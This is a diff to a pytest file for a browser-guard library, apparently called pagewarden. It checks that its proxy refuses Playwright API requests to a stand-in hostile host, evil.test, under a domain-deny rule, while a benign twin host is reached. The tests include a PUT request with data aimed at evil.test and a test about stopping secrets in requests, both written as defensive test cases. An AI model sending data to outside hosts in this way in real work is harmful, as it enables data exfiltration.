@@ -6,14 +6,11 @@ attack next to a benign twin that must reach its host. The raw Playwright object
 
 from __future__ import annotations
 
-import contextlib
 import json
 import os
 from pathlib import Path
 
 import pytest
-from playwright.async_api import Error
-from playwright.sync_api import Error as SyncError
 
 from pagewarden import Guard, Secret, launch
 from pagewarden.guard import GuardEvent
@@ -47,20 +44,16 @@ async def test_api_requests_to_a_refused_host_are_refused_by_the_proxy(netsite: 
             raw.request.fetch("http://evil.test/api?via=fetch", method="PUT", data="x"),
         ]
         for call in shapes:
-            # the API client tunnels even http:// through CONNECT: the proxy refuses the tunnel
-            # (403), which the client reports as that answer or as an aborted request
-            try:
-                response = await call
-            except Error as exc:
-                assert "aborted" in str(exc) or "403" in str(exc), str(exc)
-            else:
-                assert response.status == 403 and response.headers.get(REFUSED_HEADER.lower()) == "P-NET"
+            # the API client tunnels even http:// through CONNECT: the tunnel opens to the proxy
+            # alone and the request inside it is refused (403)
+            response = await call
+            assert response.status == 403 and response.headers.get(REFUSED_HEADER.lower()) == "P-NET"
         twin = await raw.request.get("http://other.test/api?via=page")  # benign twin: reaches
         assert twin.status == 200 and await twin.json() == {"ok": True}
     assert netsite.requests_to("evil.test") == []
     assert [r.path for r in netsite.requests_to("other.test")] == ["/api"]
     refused = [e.data for e in events if e.kind == "network" and e.data["host"] == "evil.test"]
-    assert len(refused) == 3 and {(d["rule"], d["action"]) for d in refused} == {("domain_deny", "connect")}
+    assert len(refused) == 3 and {(d["rule"], d["action"]) for d in refused} == {("domain_deny", "request")}
 
 
 async def test_a_secret_in_an_api_request_is_stopped(netsite: LocalSite) -> None:
@@ -86,8 +79,7 @@ def test_sync_api_requests_go_through_the_proxy(netsite: LocalSite) -> None:
         proxy=True, host_map={"*.test": netsite.port}, policies=policies({"domain_deny": ["evil.test"]})
     ) as page:
         page.goto("http://site.test/")
-        with contextlib.suppress(SyncError):  # refused at CONNECT: a 403 or an aborted request
-            assert page.unwrap().request.get("http://evil.test/api").status == 403
+        assert page.unwrap().request.get("http://evil.test/api").status == 403  # refused in the tunnel
         assert page.unwrap().request.get("http://other.test/api").status == 200
     assert netsite.requests_to("evil.test") == []
 
